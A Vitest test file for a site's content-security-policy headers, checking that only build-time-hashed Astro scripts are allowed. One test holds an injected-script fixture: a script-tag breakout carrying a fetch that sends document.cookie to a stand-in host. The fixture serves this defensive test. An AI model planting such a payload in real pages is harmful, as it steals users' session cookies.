import { describe, it, expect } from 'vitest';
import { createHash } from 'node:crypto';
import { pagePolicy, withSecurityHeaders } from '../../src/lib/server/security-headers';

const sha = (s: string) => `'sha256-${createHash('sha256').update(s, 'utf8').digest('base64')}'`;
const scriptSrc = (policy: string | null) => policy!.split('; ').find((d) => d.startsWith('script-src'))!;

// What Astro (experimental.csp) puts on a page: the hashes of the scripts it wrote itself, known at build time.
const loader = '(()=>{customElements.define("x-island",class extends HTMLElement{})})();';
const astroPolicy = `script-src 'self' ${sha(loader)}; style-src 'self' ${sha('astro-island{display:contents}')};`;

describe('content security policy', () => {
  it('a page allows exactly the scripts Astro hashed at build time, never unsafe-inline', () => {
    const policy = pagePolicy(astroPolicy);
    expect(scriptSrc(policy)).toBe(`script-src 'self' ${sha(loader)}`);
    expect(policy).toContain("style-src 'self' 'unsafe-inline'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
  });

  it('a script that user content placed in the page is not allowed, even though it is in the HTML', () => {
    // A record body or a data block that smuggled a <script> into the markup: the old policy hashed every
    // <script> it found in the rendered page, so this one would have run.
    const injected = 'fetch("https://elsewhere.example/steal?c="+document.cookie)';
    const html = `<html><head><script>${loader}</script></head><body><script type="application/json">{"t":"</script><script>${injected}</script>"}</body></html>`;
    const page = withSecurityHeaders(
      new Response(html, { headers: { 'content-type': 'text/html', 'content-security-policy': astroPolicy } }),
    );
    const policy = page.headers.get('content-security-policy');
    expect(policy).not.toContain(sha(injected));
    expect(scriptSrc(policy)).toBe(`script-src 'self' ${sha(loader)}`);
  });

  it('only hash sources survive from the declared policy (no unsafe-inline, no hosts)', () => {
    const policy = pagePolicy(`script-src 'self' 'unsafe-inline' https://cdn.example ${sha(loader)};`);
    expect(scriptSrc(policy)).toBe(`script-src 'self' ${sha(loader)}`);
  });

  it('a page without a declared policy allows only its own files', () => {
    expect(scriptSrc(pagePolicy(null))).toBe("script-src 'self'");
  });

  it('adds the headers to other responses, keeping ones a route set', () => {
    const json = withSecurityHeaders(
      new Response('{}', { headers: { 'content-type': 'application/json', 'referrer-policy': 'no-referrer' } }),
    );
    expect(json.headers.get('x-content-type-options')).toBe('nosniff');
    expect(json.headers.get('referrer-policy')).toBe('no-referrer');
    expect(scriptSrc(json.headers.get('content-security-policy'))).toBe("script-src 'self'");
    const sandboxed = withSecurityHeaders(
      new Response('a,b', {
        headers: { 'content-type': 'text/csv', 'content-security-policy': "default-src 'none'; sandbox" },
      }),
    );
    expect(sandboxed.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    const redirect = withSecurityHeaders(Response.redirect('http://localhost/next', 302));
    expect(redirect.headers.get('x-frame-options')).toBe('DENY');
  });
});
